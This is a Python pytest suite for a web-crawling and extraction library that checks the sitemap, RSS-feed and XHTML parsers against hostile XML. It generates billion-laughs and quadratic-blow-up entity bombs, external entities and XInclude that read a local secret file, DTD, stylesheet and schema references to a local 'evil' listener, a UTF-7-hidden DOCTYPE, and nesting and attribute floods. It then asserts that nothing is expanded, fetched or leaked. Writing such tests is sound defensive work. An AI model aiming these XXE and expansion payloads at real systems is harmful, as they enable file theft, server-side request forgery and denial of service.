"""XML that expands, fetches, includes or nests without end: as sitemap, as feed and as page."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from webdata_assets.errors import FailureDomain, PermanentError
from webdata_assets.stages.crawl.discovery.feed import discover_feed
from webdata_assets.stages.crawl.discovery.found import Page
from webdata_assets.stages.crawl.discovery.sitemap import discover_sitemap
from webdata_assets.stages.extract.extractor import extract_pages
from webdata_assets_tests.extract.making import make_payload, make_source
from webdata_assets_tests.hostile.conftest import Proves
from webdata_assets_tests.hostile.echoing import Echoing, echoing
from webdata_assets_tests.hostile.measuring import measured

URL = "http://site.test/sitemap.xml"
SECRET = "a3f9-what-a-file-holds-7c21"
DATA = Path(__file__).parents[2] / "../shared/data/hostile_inputs/defusedxml"
MOST_MEGABYTES = 200

_HEADS = {
    "sitemap": ('<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">', "</urlset>"),
    "feed": ('<rss version="2.0"><channel>', "</channel></rss>"),
    "page": ('<html xmlns="http://www.w3.org/1999/xhtml"><body><article>', "</article></body></html>"),
}
_ENTRIES = {
    "sitemap": "<url><loc>http://site.test/{}</loc></url>",
    "feed": "<item><title>{0}</title><link>http://site.test/{0}</link></item>",
    "page": "<h1>A title</h1><p>Some words of an article that go on. {}</p>",
}


@pytest.fixture(scope="module")
def listener() -> Iterator[Echoing]:
    with echoing() as server:
        yield server


def documents(kind: str, file: Path, origin: str) -> dict[str, bytes]:
    """Return attacks by name, each in the form of a sitemap, a feed or a page."""
    head, tail = _HEADS[kind]

    def whole(
        dtd: str, inner: str, declaration: str = '<?xml version="1.0"?>', attributes: str = ""
    ) -> bytes:
        root = head.replace(">", f" {attributes}>", 1) if attributes else head
        return f"{declaration}{dtd}{root}{inner}{tail}".encode()

    def entity(declarations: str, use: str = "&x;") -> bytes:
        return whole(f"<!DOCTYPE r [{declarations}]>", _ENTRIES[kind].format(use))

    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    parameter = f'<!ENTITY % f SYSTEM "{file.as_uri()}"><!ENTITY % d SYSTEM "{origin}/evil.dtd">%d;'
    plain = _ENTRIES[kind].format("a")
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    external = '<!ENTITY x SYSTEM "{}">'
    found = {
        "billion laughs": entity(f'<!ENTITY l0 "lol">{lol}<!ENTITY x "&l9;">'),
        "quadratic blow-up": entity(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 2_000),
        "entity of a file": entity(external.format(file.as_uri())),
        "entity of a listener": entity(external.format(f"{origin}/entity")),
        "parameter entity of a listener": entity(parameter),
        "DTD of a listener": whole(f'<!DOCTYPE r SYSTEM "{origin}/evil.dtd">', plain),
        "public DTD of a listener": whole(f'<!DOCTYPE r PUBLIC "-//A//B" "{origin}/evil.dtd">', plain),
        "XInclude of a file": whole(
            "", f'{plain}<xi:include parse="text" href="{file.as_uri()}"/>', attributes=include
        ),
        "XInclude of a listener": whole(
            "", f'{plain}<xi:include href="{origin}/included"/>', attributes=include
        ),
        "stylesheet of a listener": whole(
            f'<?xml-stylesheet type="text/xsl" href="{origin}/evil.xsl"?>', plain
        ),
        "schema of a listener": whole(
            "", plain,
            attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:a {origin}/evil.xsd"',
        ),
        "UTF-7 that hides a DOCTYPE": whole(
            "", f"+ADw-!DOCTYPE r [+ADw-!ENTITY x SYSTEM +ACI-{file.as_uri()}+ACI-+AD4-]+AD4-{plain}",
            declaration='<?xml version="1.0" encoding="UTF-7"?>',
        ),
    }  # fmt: skip
    if kind != "page":
        # what these do to a parser of HTML is seen in test_parser_bombs.py
        many = " ".join(f'b{number}="1"' for number in range(100_000))
        found["100,000 attributes"] = whole("", f"<a {many}/>{plain}")
        found["a text of ten megabytes"] = whole("", f"{plain}<a>{'b' * 10_000_000}</a>")
        found["200,000 levels"] = whole("", "<a>" * 200_000 + plain)
    text = entity(external.format(file.as_uri())).decode()
    for name in ("utf-16", "utf-16-be", "utf-32", "utf-8-sig"):
        encoding = name.replace("-sig", "").removesuffix("-be")
        declared = text.replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
        found[f"entity of a file in {name}"] = declared.encode(name)
    return found | {file.name: file.read_bytes() for file in sorted(DATA.glob("*.xml"))}


def read(kind: str, body: bytes) -> str:
    """Return all that came of a document; a typed refusal is its domain."""
    try:
        if kind == "page":
            page = make_payload(body, URL, content_type="application/xhtml+xml")
            return repr(extract_pages(make_source({"kind": "article"}), [page]))
        if kind == "feed":
            return repr(discover_feed(Page(URL, body, "application/rss+xml")))
        return repr(discover_sitemap(Page(URL, body), max_bytes=60_000_000))
    except PermanentError as error:
        assert error.failure_domain in (FailureDomain.PARSE, FailureDomain.RESOURCE)
        return f"refused: {error}"


_MEASURED = """
from pathlib import Path
from webdata_assets_tests.hostile.test_xml import documents, read
kind, name, file, origin = sys.argv[1:]
attacks = documents(kind, Path(file), origin)
def warm():
    read(kind, b"<urlset><url><loc>http://site.test/a</loc></url></urlset>")
    read(kind, b"<html><body><p>x</p>")
def attack():
    return [read(kind, body) for key, body in attacks.items() if name in ("", key)]
"""


@pytest.mark.parametrize("kind", ["sitemap", "feed", "page"])
def test_no_document_expands_fetches_or_shows_a_file(
    kind: str, listener: Echoing, tmp_path: Path, proves: Proves
) -> None:
    if not DATA.is_dir():
        pytest.skip(f"{DATA} is not there")
    file = tmp_path / "secret.txt"
    file.write_text(SECRET)
    listener.told.clear()
    names = list(documents(kind, file, listener.origin))
    megabytes, seconds, outcomes = measured(_MEASURED, kind, "", str(file), listener.origin)
    refused = sum(outcome.startswith("refused") for outcome in outcomes)
    shown = [name for name, told in zip(names, outcomes, strict=True) if SECRET in told or "lollol" in told]
    assert shown == []
    assert listener.told == []
    assert megabytes < MOST_MEGABYTES
    assert seconds < 20
    proves(
        "XML, YAML and JSON",
        f"XML as a {kind}: billion laughs, quadratic blow-up, entities and XInclude of files and listeners, "
        "DTDs, stylesheets, 200,000 levels, 100,000 attributes, UTF-7, UTF-16",
        f"{len(listener.told)} connections, {len(shown)} files shown; {refused} of {len(outcomes)} refused, "
        f"the others read without; peak {megabytes:.0f} MB above base, {seconds:.1f} CPU-s for all",
    )
